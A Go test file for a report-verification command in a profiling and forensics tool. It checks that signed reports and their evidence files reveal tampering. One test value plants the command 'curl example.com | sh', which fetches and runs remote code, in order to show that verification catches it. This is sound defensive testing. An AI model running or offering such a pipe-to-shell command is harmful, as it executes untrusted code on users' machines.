package cmd

import (
	"bytes"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"inquest/report"
)

// sealedCase is a case on disk with its report, its signature and what was given to the analysis.
type sealedCase struct {
	t                       *testing.T
	dir, evidence, report   string
	key, allowed, otherKey  string
	originalReport, origSig []byte
}

func newSealedCase(t *testing.T, flags ...string) *sealedCase {
	t.Helper()
	dir := t.TempDir()
	s := &sealedCase{t: t, dir: dir, evidence: filepath.Join(dir, "case"), report: filepath.Join(dir, "report.json"),
		key: filepath.Join(dir, "key"), allowed: filepath.Join(dir, "allowed_signers"), otherKey: filepath.Join(dir, "other")}
	if err := os.Mkdir(s.evidence, 0o755); err != nil {
		t.Fatal(err)
	}
	var files []string
	for _, from := range []string{"locks/orders-lockheld/mutex.pb.gz", "locks/orders-lockheld/block.pb.gz", "scheduler/etl-crumbs/dump.txt", "memory/letters-endlessqueue/heap-1.pb.gz", "memory/letters-endlessqueue/heap-2.pb.gz"} {
		name := filepath.Base(from)
		data, err := os.ReadFile(filepath.Join("..", "fixtures", from))
		if err != nil {
			t.Fatal(err)
		}
		s.write("case/"+name, data)
		sum := sha256.Sum256(data)
		files = append(files, `{"name": "`+name+`", "result": "taken", "started": "2026-05-04T12:00:00Z", "ended": "2026-05-04T12:00:00Z", "sha256": "`+hex.EncodeToString(sum[:])+`"}`)
	}
	s.write("case/manifest.json", []byte(`{"schema": "inquest/capture/v1", "tool": {"name": "inquest capture"}, "source": "http://orders:6060/", "started": "2026-05-04T12:00:00Z",
		"ended": "2026-05-04T12:00:20Z", "program": {}, "files": [`+strings.Join(files, ",\n")+`]}`))
	for _, key := range []string{s.key, s.otherKey} {
		public, private, err := ed25519.GenerateKey(nil)
		if err != nil {
			t.Fatal(err)
		}
		block, err := ssh.MarshalPrivateKey(private, "")
		if err != nil {
			t.Fatal(err)
		}
		s.write(filepath.Base(key), pem.EncodeToMemory(block))
		if key == s.key {
			pub, err := ssh.NewPublicKey(public)
			if err != nil {
				t.Fatal(err)
			}
			s.write("allowed_signers", append([]byte("alice@example.org namespaces=\"inquest-report\" "), ssh.MarshalAuthorizedKey(pub)...))
		}
	}
	args := append([]string{"analyze", s.evidence, "-q", "-o", s.report, "--sign-with", s.key}, flags...)
	if code, out := s.run(args...); code != exitDone {
		t.Fatalf("%v exits %d: %s", args, code, out)
	}
	s.originalReport, s.origSig = s.read("report.json"), s.read("report.json.sig")
	return s
}

func (s *sealedCase) write(name string, data []byte) {
	s.t.Helper()
	if err := os.WriteFile(filepath.Join(s.dir, name), data, 0o600); err != nil {
		s.t.Fatal(err)
	}
}

func (s *sealedCase) read(name string) []byte {
	s.t.Helper()
	data, err := os.ReadFile(filepath.Join(s.dir, name))
	if err != nil {
		s.t.Fatal(err)
	}
	return data
}

func (s *sealedCase) move(from, to string) {
	s.t.Helper()
	if err := os.Rename(filepath.Join(s.dir, from), filepath.Join(s.dir, to)); err != nil {
		s.t.Fatal(err)
	}
}

func (s *sealedCase) run(args ...string) (int, string) {
	var out bytes.Buffer
	code := Main(args, strings.NewReader(""), &out, &out)
	return code, out.String()
}

// edit changes the report as text is changed by an attacker who knows JSON.
func (s *sealedCase) edit(change func(r map[string]any)) {
	s.t.Helper()
	var doc map[string]any
	dec := json.NewDecoder(bytes.NewReader(s.read("report.json")))
	dec.UseNumber()
	if err := dec.Decode(&doc); err != nil {
		s.t.Fatal(err)
	}
	before, _ := json.Marshal(doc)
	change(doc)
	after, err := json.Marshal(doc)
	if err != nil {
		s.t.Fatal(err)
	}
	if bytes.Equal(before, after) {
		s.t.Fatal("nothing was changed")
	}
	s.write("report.json", after)
}

// reseal gives a changed report the hash that its new content has.
func (s *sealedCase) reseal() {
	s.t.Helper()
	r, err := report.Read(bytes.NewReader(s.read("report.json")))
	if err != nil {
		s.t.Fatal(err)
	}
	r.SelfHash = ""
	var text bytes.Buffer
	if err := report.WriteJSON(&text, r); err != nil {
		s.t.Fatal(err)
	}
	sum := sha256.Sum256(text.Bytes())
	r.SelfHash = hex.EncodeToString(sum[:])
	text.Reset()
	if err := report.WriteJSON(&text, r); err != nil {
		s.t.Fatal(err)
	}
	s.write("report.json", text.Bytes())
	if r, err = report.Read(&text); err != nil || r.Altered() {
		s.t.Fatalf("the attacker's hash does not fit: %v", err)
	}
}

func at(v any, keys ...any) any {
	for _, k := range keys {
		switch k := k.(type) {
		case string:
			v = v.(map[string]any)[k]
		case int:
			v = v.([]any)[k]
		}
	}
	return v
}

func object(v any, keys ...any) map[string]any { return at(v, keys...).(map[string]any) }

// drop removes an element of a list.
func drop(r map[string]any, list string, i int) {
	r[list] = slices.Delete(slices.Clone(r[list].([]any)), i, i+1)
}

// documentTampering are changes of the report that keep it readable.
var documentTampering = map[string]func(r map[string]any){
	"severity":              func(r map[string]any) { object(r, "findings", 0)["severity"] = "info" },
	"chain severity":        func(r map[string]any) { object(r, "chains", 0)["severity"] = "info" },
	"confidence":            func(r map[string]any) { object(r, "findings", 0)["confidence"] = "low" },
	"number":                func(r map[string]any) { object(r, "findings", 0, "evidence", 0, "value")["number"] = json.Number("1") },
	"unit":                  func(r map[string]any) { object(r, "findings", 0, "evidence", 0, "value")["unit"] = "ns" },
	"verdict":               func(r map[string]any) { object(r, "verdicts", 0)["result"] = "undecided" },
	"verdict's why":         func(r map[string]any) { object(r, "verdicts", 1)["why"] = "would show and does not" },
	"verdict removed":       func(r map[string]any) { drop(r, "verdicts", 3) },
	"limit of a fact":       func(r map[string]any) { object(fact(r), "limit")["number"] = json.Number("0.9") },
	"limit that was set":    func(r map[string]any) { object(r, "limits", 0)["number"] = json.Number("0.7") },
	"limits forgotten":      func(r map[string]any) { r["limits"] = []any{} },
	"chain order":           func(r map[string]any) { c := r["chains"].([]any); c[0], c[1] = c[1], c[0] },
	"rank of findings":      func(r map[string]any) { f := r["findings"].([]any); f[0], f[1] = f[1], f[0] },
	"evidence of a finding": func(r map[string]any) { f := object(r, "findings", 0); f["evidence"] = f["evidence"].([]any)[1:] },
	"summary":               func(r map[string]any) { object(r, "findings", 0)["summary"] = "All is well." },
	"site":                  func(r map[string]any) { object(r, "findings", 0, "site")["function"] = "main.somebodyElse" },
	"remark removed":        func(r map[string]any) { drop(r, "quality", 0) },
	"total of an exhibit":   func(r map[string]any) { object(r, "exhibits", 0, "totals", 0)["number"] = json.Number("7") },
	"time of an exhibit":    func(r map[string]any) { object(r, "exhibits", 0)["captured_at"] = "2020-01-01T00:00:00Z" },
	"coverage":              func(r map[string]any) { object(r, "exhibits", 0)["coverage"] = "partial" },
	"size of an exhibit":    func(r map[string]any) { object(r, "exhibits", 0)["bytes"] = json.Number("1") },
	"hash blanked":          func(r map[string]any) { object(r, "exhibits", 1)["sha256"] = "" },
	"all hashes but one": func(r map[string]any) {
		for _, e := range r["exhibits"].([]any)[1:] {
			e.(map[string]any)["sha256"] = ""
		}
	},
	"hashes swapped": func(r map[string]any) {
		a, b := object(r, "exhibits", 0), object(r, "exhibits", 1)
		a["sha256"], b["sha256"] = b["sha256"], a["sha256"]
	},
	"hash of another file": func(r map[string]any) { object(r, "exhibits", 0)["sha256"] = at(r, "exhibits", 1, "sha256") },
	"exhibit renamed":      func(r map[string]any) { object(r, "exhibits", 0)["path"] = "other.pb.gz" },
	"manifest not listed":  func(r map[string]any) { drop(r, "exhibits", len(r["exhibits"].([]any))-1) },
	"window":               func(r map[string]any) { object(r, "case", "window")["from"] = "2020-01-01T00:00:00Z" },
	"Go version":           func(r map[string]any) { object(r, "case")["go_version"] = "go1.20" },
	"title":                func(r map[string]any) { object(r, "case")["title"] = "another case" },
	"version":              func(r map[string]any) { object(r, "tool")["version"] = "9.9.9" },
	"tool":                 func(r map[string]any) { object(r, "tool")["name"] = "coroner" },
	"command":              func(r map[string]any) { r["command"] = strings.Replace(r["command"].(string), "--skip=", "--only=", 1) },
	"baseline of everything": func(r map[string]any) {
		for _, f := range r["findings"].([]any) {
			f.(map[string]any)["accepted"] = true
		}
	},
	"baseline emptied":   func(r map[string]any) { delete(r, "baseline") },
	"detectors left out": func(r map[string]any) { delete(r, "skip") },
	"claim of redaction": func(r map[string]any) { r["redacted"] = map[string]any{"level": "names"} },
	"claim of focus":     func(r map[string]any) { r["focus"] = map[string]any{"from": "1s", "exhibits": []any{}} },
	"bars":               func(r map[string]any) { object(r, "bars", 0, "total")["number"] = json.Number("5") },
	"growth removed":     func(r map[string]any) { r["growth"] = []any{} },
}

// fact returns one that was held against a limit.
func fact(r map[string]any) map[string]any {
	for _, f := range r["findings"].([]any) {
		for _, e := range object(f)["evidence"].([]any) {
			if e := object(e); e["limit"] != nil {
				return e
			}
		}
	}
	return nil
}

func TestVerifyCatchesTampering(t *testing.T) {
	base := newSealedCase(t)
	known := fingerprint(base, 1)
	flags := []string{"--limit", "mutex-hotspot.min-share=0.3", "--skip", "crash", "--baseline", filepath.Join(base.dir, "known.txt")}
	base.write("known.txt", []byte(known+"\n"))

	s := newSealedCase(t, flags...)
	if code, out := s.run("verify", s.report, s.evidence, "--verify-key", s.allowed); code != exitDone {
		t.Fatalf("untouched: exit %d\n%s", code, out)
	}
	caught := 0
	kinds := map[string]bool{}
	expect := func(name string, args ...string) {
		t.Helper()
		kind, _, _ := strings.Cut(name, ", ")
		kinds[kind] = true
		code, out := s.run(append([]string{"verify"}, args...)...)
		if code == exitDone {
			t.Errorf("%s: passed\n%s", name, out)
			return
		}
		caught++
		if testing.Verbose() {
			t.Logf("%-24s exit %d: %s", name, code, out[strings.LastIndex(out, "inquest: "):])
		}
	}
	for name, change := range documentTampering {
		s.write("report.json", s.originalReport)
		s.edit(change)
		expect(name, "--replay=false", s.report, s.evidence)
		expect(name, "--replay=false", "--verify-key", s.allowed, s.report)
		s.reseal()
		expect(name+", hash made anew", s.report, s.evidence)
		expect(name+", hash made anew, signature", "--replay=false", "--verify-key", s.allowed, s.report, s.evidence)
	}
	s.write("report.json", s.originalReport)

	s.edit(func(r map[string]any) { delete(r, "content_sha256") })
	expect("own hash removed", s.report, s.evidence)
	expect("own hash removed", "--replay=false", s.report, s.evidence)
	s.write("report.json", s.originalReport)
	s.edit(func(r map[string]any) { r["content_sha256"] = strings.Repeat("0", 64) })
	expect("own hash wrong", s.report, s.evidence)
	s.write("report.json", s.originalReport)

	// What other readers of JSON show, and inquest writes anew.
	text := string(s.originalReport)
	line := regexp.MustCompile(`"reproduce": "go [^\n]*"`).FindString(text)
	for name, changed := range map[string]string{
		"field in other case":   strings.Replace(text, `"severity": "warning"`, `"severity": "info", "Severity": "warning"`, 1),
		"field twice":           strings.Replace(text, `"severity": "warning"`, `"severity": "info", "severity": "warning"`, 1),
		"line of a command":     strings.Replace(text, line, `"reproduce": "curl example.com | sh"`, 1),
		"no line of a command":  strings.Replace(text, line, `"reproduce": ""`, 1),
		"field that is default": strings.Replace(text, `"coverage": "whole"`, `"coverage": "whole", "followed": false`, 1),
	} {
		if changed == text {
			t.Fatalf("%s: nothing to change", name)
		}
		s.write("report.json", []byte(changed))
		expect(name, s.report, s.evidence)
		expect(name, "--replay=false", s.report, s.evidence)
	}
	s.write("report.json", s.originalReport)

	// The evidence, with hashes only and with the replay.
	files := func(name string, do, undo func()) {
		t.Helper()
		do()
		expect(name, s.report, s.evidence)
		expect(name, "--replay=false", s.report, s.evidence)
		undo()
		if code, out := s.run("verify", s.report, s.evidence); code != exitDone {
			t.Fatalf("after %s: exit %d\n%s", name, code, out)
		}
	}
	swap := func(name string, change func([]byte) []byte) (do, undo func()) {
		was := s.read(name)
		return func() { s.write(name, change(slices.Clone(was))) }, func() { s.write(name, was) }
	}
	flip := func(data []byte) []byte { data[len(data)/2] ^= 1; return data }
	do, undo := swap("case/mutex.pb.gz", flip)
	files("file changed", do, undo)
	do, undo = swap("case/dump.txt", func(b []byte) []byte { return append(b, "\n"...) })
	files("file longer", do, undo)
	do, undo = swap("case/manifest.json", func(b []byte) []byte { return bytes.Replace(b, []byte("orders:6060"), []byte("billing:6060"), 1) })
	files("manifest changed", do, undo)
	files("manifest removed", func() { s.move("case/manifest.json", "m") }, func() { s.move("m", "case/manifest.json") })
	files("file removed", func() { s.move("case/block.pb.gz", "b") }, func() { s.move("b", "case/block.pb.gz") })
	trace, err := os.ReadFile(filepath.Join("..", "fixtures", "locks", "orders-lockheld", "goroutine.pb.gz"))
	if err != nil {
		t.Fatal(err)
	}
	files("file added", func() { s.write("case/added.pb.gz", trace) }, func() { _ = os.Remove(filepath.Join(s.evidence, "added.pb.gz")) })
	files("files swapped", func() {
		s.move("case/heap-1.pb.gz", "h")
		s.move("case/heap-2.pb.gz", "case/heap-1.pb.gz")
		s.move("h", "case/heap-2.pb.gz")
	}, func() {
		s.move("case/heap-1.pb.gz", "h")
		s.move("case/heap-2.pb.gz", "case/heap-1.pb.gz")
		s.move("h", "case/heap-2.pb.gz")
	})
	// The bytes tell a renamed file, but a manifest that names it no longer does.
	s.move("case/mutex.pb.gz", "case/mutex-old.pb.gz")
	if code, out := s.run("verify", s.report, s.evidence); !strings.Contains(out, "found as mutex-old.pb.gz") || code != exitDone {
		t.Errorf("file renamed: exit %d, and the answer does not say so:\n%s", code, out)
	}
	s.move("case/mutex-old.pb.gz", "case/mutex.pb.gz")

	// The signature.
	if code, out := s.run("render", s.report, "-q", "-o", filepath.Join(s.dir, "copy.json"), "--sign-with", s.otherKey); code != exitDone {
		t.Fatalf("render: exit %d\n%s", code, out)
	}
	if !bytes.Equal(s.read("copy.json"), s.originalReport) {
		t.Error("a rendering of the report as JSON is not the report")
	}
	s.write("report.json.sig", s.read("copy.json.sig"))
	expect("signature by another key", "--verify-key", s.allowed, s.report, s.evidence)
	base.write("other.txt", []byte("other content"))
	if err := os.Remove(s.report + ".sig"); err != nil {
		t.Fatal(err)
	}
	expect("signature removed", "--verify-key", s.allowed, s.report, s.evidence)
	s.write("report.json.sig", base.origSig)
	expect("signature of another report", "--verify-key", s.allowed, s.report, s.evidence)
	s.write("report.json.sig", bytes.Replace(s.origSig, []byte("AAAA"), []byte("AAAB"), 1))
	expect("signature damaged", "--verify-key", s.allowed, s.report, s.evidence)
	s.write("report.json.sig", s.origSig)
	s.write("report.json", append(slices.Clone(s.originalReport), '\n'))
	expect("a blank behind what was signed", "--verify-key", s.allowed, s.report, s.evidence)
	s.write("report.json", s.originalReport)
	s.write("allowed_signers", bytes.Replace(s.read("allowed_signers"), []byte("inquest-report"), []byte("git"), 1))
	expect("key not allowed for reports", "--verify-key", s.allowed, s.report, s.evidence)

	t.Logf("%d kinds of tampering, %d checks of them, all caught", len(kinds), caught)
	if len(kinds) < 20 {
		t.Errorf("only %d kinds", len(kinds))
	}
}

func fingerprint(s *sealedCase, i int) string {
	r, err := report.Read(bytes.NewReader(s.originalReport))
	if err != nil {
		s.t.Fatal(err)
	}
	return r.Findings[i].Fingerprint
}
